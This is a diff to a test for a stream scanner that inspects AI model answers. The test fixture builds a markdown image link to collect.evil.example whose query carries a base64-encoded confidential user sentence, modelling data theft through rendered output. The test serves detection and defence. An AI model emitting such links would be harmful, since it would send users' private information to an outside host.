@@ -238,10 +238,11 @@ def test_a_streamed_call_is_judged_before_it_leaves() -> None:
 
 
 def test_a_link_that_the_model_did_not_make_is_none_of_its_own_in_a_stream() -> None:
-    text = f"![chart](https://collect.evil.example/p?d={CHANCE.randbytes(40).hex()}) "
+    said = "the merger with Northwind closes on Friday at noon"
+    text = f"![chart](https://collect.evil.example/p?d={base64.urlsafe_b64encode(said.encode()).decode()}) "
     found = {}
     for block in ("choice/0", f"{FOREIGN}copy/1"):
-        scanner = inspector().open_stream_scanner(answer(request(user("hello"))))
+        scanner = inspector().open_stream_scanner(answer(request(user(said))))
         assert scanner is not None
         told = [*scanner.feed(block, text)[1], *scanner.end(block)]
         found[block] = {one.rule for one in told if isinstance(one, Signal)}
